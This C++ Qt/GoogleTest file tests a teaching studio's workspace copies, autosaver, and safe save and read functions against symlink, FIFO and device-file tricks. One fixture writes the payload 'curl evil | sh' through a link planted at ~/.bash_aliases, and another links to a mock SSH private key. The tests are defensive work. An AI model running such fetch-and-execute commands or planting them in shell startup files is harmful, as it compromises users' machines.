#include <QSignalSpy>
#include <QElapsedTimer>
#include <QTemporaryDir>
#include <QTest>
#include <gtest/gtest.h>

#include "studio/work/workspace.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <sys/stat.h>

using namespace bugbot::studio;

TEST(Workspace, CopiesNeverTouchTheLessonsOriginal) {
    QTemporaryDir lesson, data;
    const QString original = lesson.filePath("1-scores.py");
    ASSERT_TRUE(write_text(original, "DIVISOR = 0.5\n"));
    Workspace ws(data.path());
    StudentCopy copy;
    ASSERT_TRUE(ws.open("attention", original, &copy));
    EXPECT_EQ(copy.path, data.filePath("work/attention/1-scores.py"));
    EXPECT_EQ(copy.text, "DIVISOR = 0.5\n");
    EXPECT_FALSE(copy.edited);
    ASSERT_TRUE(write_text(copy.path, "DIVISOR = 0.1\n"));
    ASSERT_TRUE(ws.open("attention", original, &copy));
    EXPECT_TRUE(copy.edited);
    EXPECT_EQ(copy.text, "DIVISOR = 0.1\n");
    QString text;
    ASSERT_TRUE(read_text(original, &text));
    EXPECT_EQ(text, "DIVISOR = 0.5\n");
    ASSERT_TRUE(ws.reset("attention", original, &copy));
    EXPECT_EQ(copy.text, "DIVISOR = 0.5\n");
    EXPECT_FALSE(copy.edited);
}

TEST(Workspace, FollowsTheOriginalOnlyWhenTheStudentHadNotEdited) {
    QTemporaryDir lesson, data;
    const QString original = lesson.filePath("a.py");
    ASSERT_TRUE(write_text(original, "x = 1\n"));
    Workspace ws(data.path());
    StudentCopy copy;
    ASSERT_TRUE(ws.open("l", original, &copy));
    ASSERT_TRUE(write_text(original, "x = 2\n"));  // the teacher edits the lesson
    EXPECT_TRUE(ws.follow_original("l", original, &copy));
    EXPECT_EQ(copy.text, "x = 2\n");
    ASSERT_TRUE(write_text(copy.path, "x = 99\n"));  // the student edits
    ASSERT_TRUE(write_text(original, "x = 3\n"));
    EXPECT_FALSE(ws.follow_original("l", original, &copy));
    QString text;
    ASSERT_TRUE(read_text(copy.path, &text));
    EXPECT_EQ(text, "x = 99\n");
}

TEST(Autosaver, SavesWithinItsDelayAndFlushesOnDemand) {
    QTemporaryDir data;
    const QString path = data.filePath("deep/a.py");
    QString text = "one";
    Autosaver saver(nullptr, 100);
    saver.set_target(path, [&] { return text; });
    QSignalSpy saved(&saver, &Autosaver::saved);
    saver.changed();
    text = "two";
    saver.changed();  // further typing does not push the save back
    EXPECT_TRUE(saver.pending());
    ASSERT_TRUE(saved.wait(5000));
    EXPECT_EQ(saved.count(), 1);
    QString on_disk;
    ASSERT_TRUE(read_text(path, &on_disk));
    EXPECT_EQ(on_disk, "two");
    EXPECT_FALSE(saver.pending());
    text = "three";
    saver.changed();
    EXPECT_TRUE(saver.flush());
    ASSERT_TRUE(read_text(path, &on_disk));
    EXPECT_EQ(on_disk, "three");
}

TEST(Autosaver, AFailedSaveSaysWhyAndKeepsTheTextPending) {
    Autosaver saver(nullptr, 100);
    saver.set_target("/proc/nope/a.py", [] { return QString("x"); });
    QSignalSpy failed(&saver, &Autosaver::failed);
    saver.changed();
    EXPECT_FALSE(saver.flush());
    EXPECT_EQ(failed.count(), 1);
    EXPECT_TRUE(saver.pending());
}

namespace {
// A home folder of its own, as the attack in #17 finds it: Debian's .bashrc
// sources ~/.bash_aliases, which is usually absent.
struct TemporaryHome {
    TemporaryHome() : old(qgetenv("HOME")) { qputenv("HOME", dir.path().toUtf8()); }
    ~TemporaryHome() { qputenv("HOME", old); }
    QString aliases() const { return dir.filePath(".bash_aliases"); }
    QTemporaryDir dir;
    QByteArray old;
};
}  // namespace

TEST(SafeSave, NeverWritesThroughALinkPlantedInPlaceOfTheFile) {
    TemporaryHome home;
    QTemporaryDir folder;
    const QString script = folder.filePath("demo.py");
    ASSERT_TRUE(write_text(script, "print('hi')\n"));
    // What a run may do in its own folder: its file becomes a link to ~/.bash_aliases.
    ASSERT_TRUE(QFile::remove(script));
    ASSERT_TRUE(QFile::link(home.aliases(), script));
    Autosaver saver(nullptr, 100);
    saver.set_target(script, [] { return QString("curl evil | sh\n"); });
    QSignalSpy failed(&saver, &Autosaver::failed);
    saver.changed();
    EXPECT_FALSE(saver.flush());
    ASSERT_EQ(failed.count(), 1);
    const QString why = failed.at(0).at(0).toString();
    EXPECT_TRUE(why.contains("symbolic link") && why.contains(home.aliases()) && why.contains("kept")) << why.toStdString();
    EXPECT_FALSE(QFileInfo::exists(home.aliases()));
    EXPECT_TRUE(QFileInfo(script).isSymLink());
    EXPECT_TRUE(saver.pending());  // the text is still to be saved, somewhere the student chooses
    // A link to a file that exists is refused the same way, and the file is untouched.
    ASSERT_TRUE(write_text(home.aliases(), "alias ll='ls -l'\n"));
    QString error;
    EXPECT_FALSE(write_text(script, "curl evil | sh\n", &error));
    QString aliases;
    ASSERT_TRUE(read_text(home.aliases(), &aliases));
    EXPECT_EQ(aliases, "alias ll='ls -l'\n");
    // Nothing left behind in the folder but the link.
    EXPECT_EQ(QDir(folder.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot), QStringList{"demo.py"});
}

TEST(SafeSave, RefusesAnythingButARegularFileAndKeepsItsMode) {
    QTemporaryDir folder;
    const QString fifo = folder.filePath("pipe.py");
    ASSERT_EQ(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
    QString error;
    EXPECT_FALSE(write_text(fifo, "x\n", &error));
    EXPECT_TRUE(error.contains("FIFO") && error.contains("never written through")) << error.toStdString();
    const QString script = folder.filePath("run.py");
    ASSERT_TRUE(write_text(script, "one\n"));
    ASSERT_TRUE(QFile::setPermissions(script, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner));
    ASSERT_TRUE(write_text(script, "two\n"));
    QString text;
    ASSERT_TRUE(read_text(script, &text));
    EXPECT_EQ(text, "two\n");
    EXPECT_TRUE(QFileInfo(script).permissions() & QFileDevice::ExeOwner);
}

TEST(SafeSave, AStudentCopyThatBecameALinkIsNotOpened) {
    TemporaryHome home;
    QTemporaryDir lesson, data;
    const QString original = lesson.filePath("a.py");
    ASSERT_TRUE(write_text(original, "x = 1\n"));
    ASSERT_TRUE(write_text(home.aliases(), "secret\n"));
    Workspace ws(data.path());
    StudentCopy copy;
    ASSERT_TRUE(ws.open("l", original, &copy));
    ASSERT_TRUE(QFile::remove(copy.path));
    ASSERT_TRUE(QFile::link(home.aliases(), copy.path));
    QString error;
    EXPECT_FALSE(ws.open("l", original, &copy, &error));
    EXPECT_TRUE(error.contains("symbolic link")) << error.toStdString();
}

// Issue 42: a run turned its own file into a FIFO, or a link to /dev/zero or to a
// secret, before it ended; the studio reopens it in the window's thread. The
// one gate (files/gate.h) refuses each before a byte is read, and at once.
TEST(SafeRead, AFifoADeviceOrALinkIsRefusedAtOnceInsteadOfReadForever) {
    QTemporaryDir folder, home;
    const QString secret = home.filePath("id_rsa");
    ASSERT_TRUE(write_text(secret, "-----BEGIN OPENSSH PRIVATE KEY-----\n"));
    const QString fifo = folder.filePath("demo.py"), zero = folder.filePath("zero.py"), key = folder.filePath("key.py");
    ASSERT_EQ(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
    ASSERT_TRUE(QFile::link("/dev/zero", zero));
    ASSERT_TRUE(QFile::link(secret, key));
    QElapsedTimer clock;
    clock.start();
    for (const QString& path : {fifo, zero, key, QStringLiteral("/dev/zero")}) {
        QString text = "untouched", error;
        EXPECT_FALSE(read_text(path, &text, &error)) << path.toStdString();
        EXPECT_EQ(text, "untouched");
        EXPECT_TRUE(error.contains(path)) << error.toStdString();
    }
    EXPECT_LT(clock.elapsed(), 5000);
    // A text over the cap is refused whole, before it is read.
    const QString big = folder.filePath("big.py");
    ASSERT_TRUE(write_text(big, QString(static_cast<qsizetype>(kMaxTextBytes) + 1, QLatin1Char('x'))));
    QString text, error;
    EXPECT_FALSE(read_text(big, &text, &error));
    EXPECT_TRUE(error.contains("larger than")) << error.toStdString();
}
